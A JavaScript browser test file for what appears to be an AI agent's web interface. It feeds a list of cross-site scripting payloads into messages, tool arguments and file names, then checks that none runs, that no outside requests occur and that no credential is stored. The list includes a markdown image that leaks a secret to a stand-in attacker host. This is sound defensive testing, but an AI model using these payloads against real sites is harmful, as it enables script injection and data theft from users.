// What untrusted text can do to the page: nothing.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { foreign, openPage, practise, send, startHost } from "./host.mjs";

const payloads = [
  "<script>window.__ran=1</script>",
  '<img src=x onerror="window.__ran=1">',
  '<svg onload="window.__ran=1">',
  '<iframe srcdoc="<script>parent.__ran=1</script>">',
  "[x](javascript:window.__ran=1)",
  "![x](https://evil.example/p.png?d=SECRET)",
  '"><img src=x onerror=window.__ran=1>',
  "<details open ontoggle=window.__ran=1>x</details>",
  "<svg><foreignObject><body onload=window.__ran=1></foreignObject></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__ran=1>",
  "</textarea><script>window.__ran=1</script>",
  "{{constructor.constructor('window.__ran=1')()}}",
];

let host;
let view;

before(async () => {
  host = await startHost();
  view = await openPage();
  await view.page.goto(host.url);
  await practise(view.page);
});

after(async () => {
  await view?.browser.close();
  await host?.stop();
  await host?.forget();
});

describe("untrusted text", () => {
  it("runs nothing in messages, in tool arguments and in titles", async () => {
    const { page } = view;
    for (const payload of payloads) {
      await send(page, payload);
      await page.waitForFunction(
        (words) => document.querySelector("[role=log]")?.textContent?.includes(words),
        payload,
      );
    }
    await send(page, `write "${payloads[1].replaceAll('"', "")}.md": ${payloads.join(" ")}`);
    // It asks, with the words of all of them in what it would write.
    await page.getByRole("button", { name: "Allow once" }).waitFor();
    for (const name of ["Needs you", "Tasks", "Activity"]) {
      await page.getByRole("link", { name: new RegExp(`^${name}`) }).click();
      await page.getByRole("heading", { level: 1, name }).waitFor();
      await page.getByRole("status").filter({ hasText: "Loading" }).waitFor({ state: "detached" });
    }
    assert.equal(await page.evaluate(() => window.__ran), undefined);
    assert.equal(await page.locator("main img, main iframe, main script").count(), 0);
  });

  it("makes the page ask nobody else for anything", () => {
    assert.deepEqual(foreign(view.requests, host.url), []);
    assert.deepEqual(view.errors, []);
  });

  it("finds no credential in the page", async () => {
    const stored = await view.page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]),
    );
    assert.ok(host.ticket.length > 10 && !stored.includes(host.ticket));
    assert.equal(await view.page.evaluate(() => document.cookie), "");
  });
});
